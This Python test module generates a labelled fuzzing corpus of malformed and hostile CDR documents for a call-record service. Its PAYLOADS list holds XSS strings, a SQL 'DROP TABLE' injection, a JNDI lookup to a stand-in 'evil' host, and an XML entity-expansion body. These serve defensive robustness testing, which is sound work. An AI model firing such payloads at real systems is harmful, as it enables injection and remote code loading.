"""A deterministic corpus of documents built to break sixminutes, each labelled with its outcome.

Why: the service must survive whatever a CouchDB database or an HTTP client hands it — design
documents, deletions, missing or wrong-typed fields, bare ``nan``, huge strings, deep nesting,
invalid UTF-8, HTML and script in every string field — count every document under the outcome
it deserves, and keep counting the good ones around them exactly.

``documents(seed, now, n, path)`` gives ``n`` cases for one path: ``"couch"`` holds only what
CouchDB stores (JSON objects with an ``_id``), ``"http"`` adds what only raw bytes can carry
(invalid UTF-8, truncated or non-object JSON, bare ``nan``, nesting 100,000 deep). Each case's
``expect`` is ``"accepted"`` or a reason of ``sixminutes.call.REASONS``, decided here by how the
document is built, never by running the engine. About a quarter are good realistic CDRs.
"""
from __future__ import annotations

import json
import random
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import orjson

from sixminutes.call import REASONS
from sixminutes.sources.synthetic import Generator

PAYLOADS = [
    '<script>alert("x")</script>', '"><img src=x onerror=alert(1)>',
    "</script><script>alert(2)</script>", "javascript:alert(3)", "<svg/onload=alert(4)>",
    "{{constructor.constructor('alert(5)')()}}", "${jndi:ldap://evil/a}",
    "'; DROP TABLE cells; --", 'a"b\\c}d,e=f{g="h"}', "line\nbreak\r\ttab\x0b",
    "\u202egnp.exe", "Zoë 🙂 中文 ﷽", "%3Cscript%3Ealert(6)%3C%2Fscript%3E", "nul\x00byte",
    "__proto__", "constructor", "toString", "NaN", "-Infinity", " ",
]
"""Strings that break HTML, JS, SQL, Prometheus labels, series keys or templates when mishandled."""

STRING_FIELDS = ("ccnq_profile", "ccnq_direction", "ccnq_account", "ccnq_from_e164",
                 "ccnq_to_e164", "sip_term_status", "hangup_cause", "hangup_cause_q850",
                 "caller_id_name", "sip_user_agent", "uuid")
BAD_END_EPOCHS: list[Any] = [None, "", "abc", "12", 12, -5, "1e3", "NaN", "Infinity", "-inf",
                             "0x6553f100", True, False, {}, [], [1796000000], {"v": 1796000000},
                             946684799, "946684799", " ", "1796000000abc"]
"""end_epoch values that are missing, not a number, not finite or before 2000."""
WRONG_TYPES: list[Any] = [None, True, 0, -1, 3.5, 1e308, "", "n/a", [], [1, "2"], {"a": {}},
                          "9" * 40, "-0", "NaN"]
"""Values of the wrong type for any other variable: read leniently, never a rejection."""
OUTCOMES = ("accepted", *REASONS)


@dataclass(frozen=True)
class Case:
    """One document: what it is meant to test, the outcome it must get, its JSON bytes."""

    kind: str
    expect: str
    raw: bytes


class _Builder:
    def __init__(self, seed: int, now: int, path: str) -> None:
        self.rng = random.Random(f"{seed}-{path}")
        self.now = now
        self.path = path
        self.generator = Generator(seed=seed + (0 if path == "couch" else 1))
        self.count = 0

    # -- helpers -------------------------------------------------------------------------
    def next_id(self, what: str) -> str:
        self.count += 1
        return f"{self.path}-{what}-{self.count:06d}"

    def end(self) -> int:
        """Within the last 40 minutes: well inside retention, never in the future."""
        return self.now - 30 - self.rng.randrange(2400)

    def payload(self) -> str:
        return self.rng.choice(PAYLOADS)

    def small(self, what: str, **variables: Any) -> dict:
        doc_id = self.next_id(what)
        merged = {"end_epoch": str(self.end()), "uuid": doc_id, "ccnq_profile": f"h-{what}",
                  "ccnq_direction": self.rng.choice(["egress", "ingress"]),
                  "ccnq_account": f"acct{self.rng.randrange(5)}", "billsec": "0",
                  "sip_term_status": self.rng.choice(["200", "486", "487"])}
        merged.update(variables)
        return {"_id": doc_id, "callflow": [{"profile_index": "1"}],
                "variables": {k: v for k, v in merged.items() if v is not _DROP}}

    def good(self) -> dict:
        raw, _truth = self.generator.cdr(self.end())
        doc = orjson.loads(raw)
        doc["_id"] = self.next_id("good")
        return doc

    # -- kinds: (doc or raw bytes, expected outcome) -------------------------------------
    def design_doc(self) -> tuple[Any, str]:
        doc = self.small("design", ccnq_profile=self.payload())
        doc["_id"] = "_design/" + doc["_id"]
        doc["views"] = {"v": {"map": "function(doc){emit('<script>', 1)}"}}
        return doc, "design_doc"

    def deleted(self) -> tuple[Any, str]:
        doc = self.small("deleted", ccnq_profile=self.payload())
        doc["_deleted"] = True
        return doc, "deleted"

    def no_variables(self) -> tuple[Any, str]:
        doc = {"_id": self.next_id("novars"), "callflow": {"x": self.payload()}}
        if self.rng.random() < 0.5:
            doc["variables"] = None
        return doc, "no_variables"

    def bad_variables(self) -> tuple[Any, str]:
        value = self.rng.choice([self.payload(), [1, 2], ["end_epoch", "1796000000"], 5, True,
                                 0, 1.5, ""])
        return {"_id": self.next_id("badvars"), "variables": value}, "bad_variables"

    def bad_end_epoch(self) -> tuple[Any, str]:
        value = self.rng.choice(BAD_END_EPOCHS)
        return self.small("badend", end_epoch=_DROP if value is None else value), "bad_end_epoch"

    def future(self) -> tuple[Any, str]:
        value = self.rng.choice([self.now + 3 * 3600, self.now + 86400 * 3650, 10**15, 1e30,
                                 str(self.now + 7200), f"{self.now + 7200}.5"])
        return self.small("future", end_epoch=value), "future"

    def too_old(self) -> tuple[Any, str]:
        value = self.rng.choice([self.now - 30 * 3600, 978307200, str(self.now - 86400 * 400)])
        return self.small("old", end_epoch=value), "too_old"

    def payloads_everywhere(self) -> tuple[Any, str]:
        """Script and HTML in every string field (the _id too): counted like any CDR."""
        doc = self.small("xss", **{f: self.payload() for f in STRING_FIELDS if f != "uuid"})
        doc["_id"] += "-<script>alert(1)</script>"
        doc["variables"]["uuid"] = doc["_id"]
        doc["notes"] = [self.payload() for _ in range(3)]
        return doc, "accepted"

    def wrong_types(self) -> tuple[Any, str]:
        names = ("billsec", "duration", "answer_epoch", "progress_mediamsec", "progressmsec",
                 "rtp_audio_in_mos", "ccnq_profile", "ccnq_direction", "ccnq_account",
                 "sip_term_status", "hangup_cause", "hangup_cause_q850")
        picked = {n: self.rng.choice(WRONG_TYPES) for n in self.rng.sample(names, 4)}
        end = self.end()
        picked["end_epoch"] = self.rng.choice([str(end), end, float(end), f"{end}.0", f" {end}"])
        return self.small("types", **picked), "accepted"

    def huge_string(self) -> tuple[Any, str]:
        size = self.rng.choice([64_000, 300_000, 700_000])  # (URL-encoded: twice that)
        return self.small("huge", caller_id_name="<i>huge</i>" * (size // 11),
                          sip_user_agent=self.payload()), "accepted"

    def deep(self) -> tuple[Any, str]:
        """Deeply nested (within what CouchDB takes), raising an alert whose sample it is."""
        depth = self.rng.choice([120, 260, 300, 600])
        doc = self.small("deep", sip_term_status="503", ccnq_profile=f"deep-{self.count}")
        nested: Any = self.payload()
        for _ in range(depth):
            nested = {"a": nested} if self.rng.random() < 0.5 else [nested]
        doc["callflow"] = nested
        return doc, "accepted"

    def huge_numbers(self) -> tuple[Any, str]:
        """Numbers beyond 64 bits or a double, in the CDR's own fields and in others; the
        CDR is the sample of an alert, so its document is built and saved later."""
        doc = self.small("numbers", sip_term_status="503", ccnq_profile=f"nums-{self.count}",
                         billsec="9" * 40, duration="HUGE1", progress_mediamsec="HUGE2",
                         rtp_audio_in_mos=1e300, x="HUGE1", y="HUGE3")
        doc["z"] = "HUGE2"
        return (_dumps(doc).replace(b'"HUGE1"', b"18446744073709551616")
                .replace(b'"HUGE2"', b"-123456789012345678901234567890")
                .replace(b'"HUGE3"', b"1e999")), "accepted"

    def lone_surrogate(self) -> tuple[Any, str]:
        """JSON-escaped text that is not Unicode; CouchDB stores it, nothing can decode it."""
        doc = self.small("surrogate")
        raw = _dumps(doc).replace(b'"callflow":', b'"bad":"\\ud800\\udfff\\udc00","callflow":', 1)
        return raw, "bad_json"

    # -- bytes only: what no CouchDB stores -----------------------------------------------
    def invalid_utf8(self) -> tuple[Any, str]:
        raw = _dumps(self.small("utf8", ccnq_profile="PROFILE"))
        return raw.replace(b"PROFILE", self.rng.choice([b"\xff\xfe", b"\xc3(", b"\xed\xa0\x80",
                                                        b"ok\x80", b"\xf8\x88\x80\x80\x80"])), "bad_json"

    def truncated(self) -> tuple[Any, str]:
        raw = _dumps(self.small("trunc"))
        return raw[: self.rng.randrange(1, len(raw) - 1)], "bad_json"

    def not_json(self) -> tuple[Any, str]:
        return self.rng.choice([b"{'variables': {}}", b"{variables: 1}", b'{"a":1,}',
                                b'{"a" 1}', b"{\"a\":1}}", b"{" + b'"x":1,' * 1000]), "bad_json"

    def not_object(self) -> tuple[Any, str]:
        value = self.rng.choice([[self.small("arr")], [1, 2, 3], "a string", 123, None, 1.5,
                                 self.payload(), []])
        return _dumps(value), "not_object"

    def bare_nan(self) -> tuple[Any, str]:
        """FreeSWITCH >= 1.6 writes nan unquoted in callStats: the CDR still counts."""
        doc = self.small("nan")
        doc["callStats"] = {"audio": {"inbound": {"mos": "NAN1", "quality_percentage": "NAN2"}}}
        raw = _dumps(doc).replace(b'"NAN1"', b"nan").replace(b'"NAN2"', b"-nan")
        if self.rng.random() < 0.3:  # and in end_epoch: that one is not a number
            raw = raw.replace(b'"end_epoch":"', b'"end_epoch":nan,"x":"', 1)
            return raw, "bad_end_epoch"
        return raw, "accepted"

    def nested_100k(self) -> tuple[Any, str]:
        depth = self.rng.choice([1001, 5000, 100_000])
        opener, closer = self.rng.choice([(b"[", b"]"), (b'{"a":', b"}")])
        return (b'{"variables":{"end_epoch":"1796000000"},"x":' + opener * depth
                + b"1" + closer * depth + b"}"), "bad_json"


_DROP = object()


def _dumps(value: Any) -> bytes:
    """JSON bytes, also for nesting deeper than orjson writes."""
    try:
        return orjson.dumps(value)
    except TypeError:
        return json.dumps(value, ensure_ascii=False, separators=(",", ":")).encode()


_KINDS: dict[str, tuple[int, tuple[str, ...]]] = {
    # kind: (weight, paths that can carry it)
    "design_doc": (8, ("couch", "http")),
    "deleted": (8, ("couch", "http")),
    "no_variables": (8, ("couch", "http")),
    "bad_variables": (8, ("couch", "http")),
    "bad_end_epoch": (10, ("couch", "http")),
    "future": (6, ("couch", "http")),
    "too_old": (6, ("couch", "http")),
    "payloads_everywhere": (14, ("couch", "http")),
    "wrong_types": (12, ("couch", "http")),
    "lone_surrogate": (3, ("couch", "http")),
    "huge_numbers": (3, ("couch", "http")),
    "huge_string": (0, ("couch", "http")),  # a few, placed by hand (see documents)
    "deep": (0, ("couch", "http")),
    "invalid_utf8": (6, ("http",)),
    "truncated": (6, ("http",)),
    "not_json": (4, ("http",)),
    "not_object": (6, ("http",)),
    "bare_nan": (6, ("http",)),
    "nested_100k": (0, ("http",)),
}


def documents(seed: int, now: int, n: int, path: str, good_share: float = 0.25) -> list[Case]:
    """``n`` cases for ``path`` ("couch" or "http"), in a deterministic shuffled order."""
    builder = _Builder(seed, now, path)
    kinds = [k for k, (w, paths) in _KINDS.items() if path in paths and w]
    # pouchdb-server reads every design document for each write it validates: hundreds of
    # them make _bulk_docs quadratic, so the feed gets 60 design documents, at its end
    last = [_case("design_doc", builder.design_doc) for _ in range(60)] if path == "couch" else []
    if last:
        kinds.remove("design_doc")
    weights = [_KINDS[k][0] for k in kinds]
    fixed = ["huge_string"] * 6 + ["deep"] * 12 + (["nested_100k"] * 6 if path == "http" else [])
    cases: list[Case] = []
    for kind in fixed:
        cases.append(_case(kind, getattr(builder, kind)))
    while len(cases) < n - len(last):
        if builder.rng.random() < good_share:
            cases.append(Case("good", "accepted", _dumps(builder.good())))
        else:
            kind = builder.rng.choices(kinds, weights)[0]
            cases.append(_case(kind, getattr(builder, kind)))
    builder.rng.shuffle(cases)
    return cases + last


def _case(kind: str, build: Callable[[], tuple[Any, str]]) -> Case:
    value, expect = build()
    assert expect in OUTCOMES, expect
    return Case(kind, expect, value if isinstance(value, bytes) else _dumps(value))


def bad_bodies(seed: int, n: int) -> list[tuple[str, str | None, bytes]]:
    """``n`` POST bodies from which no CDR can be read: (kind, Content-Type, body); each gets
    400 and is counted as ``bad_body``."""
    rng = random.Random(f"{seed}-bodies")
    makers: list[tuple[str, str | None, Callable[[str], bytes]]] = [
        ("bad_base64", "application/x-www-form-base64-encoded", lambda p: b"cdr=!!" + p.encode()),
        ("bad_urlencoding", "application/x-www-form-urlencoded", lambda p: b"cdr=%7B%ZZ" + p.encode()),
        ("bad_form", "application/x-www-form-urlencoded", lambda p: b"name=" + p.encode() + b"&x=1"),
        ("html", "application/json", lambda p: b"<html><body>" + p.encode() + b"</body></html>"),
        ("xml", "application/x-www-form-plaintext",  # entities: refused unexpanded
         lambda p: b'cdr=<?xml version="1.0"?><!DOCTYPE cdr [<!ENTITY a "aaaa"><!ENTITY b '
                   b'"&a;&a;&a;&a;">]><cdr><variables><x>&b;' + p.encode() + b"</x></variables></cdr>"),
        ("empty", "application/x-www-form-urlencoded", lambda p: rng.choice([b"", b"cdr=", b"  "])),
        ("unsupported", "text/html", lambda p: b"!" + p.encode()),
        ("unrecognised", None, lambda p: b"!" + p.encode()),
    ]
    bodies = []
    for i in range(n):
        kind, content_type, make = makers[i % len(makers)]
        bodies.append((kind, content_type, make(rng.choice(PAYLOADS))))
    return bodies


def big_document(now: int, size: int, doc_id: str) -> bytes:
    """One valid CDR of about ``size`` bytes (a 10 MB one, one near CouchDB's 8 MB limit)."""
    doc = {"_id": doc_id, "variables": {"end_epoch": str(now - 60), "uuid": doc_id,
                                         "ccnq_profile": "h-big", "ccnq_direction": "egress",
                                         "caller_id_name": "<b>big</b>" * (size // 10)}}
    return orjson.dumps(doc)


def expected(cases: list[Case]) -> Counter[str]:
    """Documents by outcome."""
    return Counter(case.expect for case in cases)
